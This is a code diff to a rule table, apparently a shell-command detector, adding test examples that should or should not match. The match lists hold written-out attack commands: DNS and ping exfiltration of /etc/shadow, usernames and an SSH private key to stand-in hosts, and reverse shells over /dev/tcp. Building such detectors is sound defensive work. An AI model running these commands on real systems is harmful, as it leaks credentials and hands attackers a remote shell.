@@ -18,9 +18,11 @@ RULES: tuple[Rule, ...] = (
             'nslookup "$(sudo head -1 /etc/shadow | xxd -p | head -c 60).x.example.net"',
             "nslookup $(whoami).$(hostname).x.io",
             "host `id -un`.leak.example.org",
+            "ping -c 1 -p $(xxd -p -l 16 ~/.ssh/id_rsa) 203.0.113.3",
         ),
         non_matches=(
             "dig example.com",
+            "ping -c1 $(hostname)",
             "dig +short $(hostname -f)",
             "nslookup github.com",
             "host -t mx example.org",
@@ -225,9 +227,11 @@ RULES: tuple[Rule, ...] = (
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
             "sh -i >& /dev/udp/10.0.0.1/53 0>&1",
             "0<&196;exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196",
+            'exec 3<>/dev/tcp/10.0.0.1/443; while read -r c <&3; do eval "$c" >&3; done',
         ),
         non_matches=(
             "timeout 1 bash -c '</dev/tcp/example.com/443' && echo open",
+            'for i in 1 2; do bash -c "echo $i > /dev/tcp/10.0.0.1/22"; done',
             "echo > /dev/tcp/localhost/80",
         ),
     ),  # fmt: skip
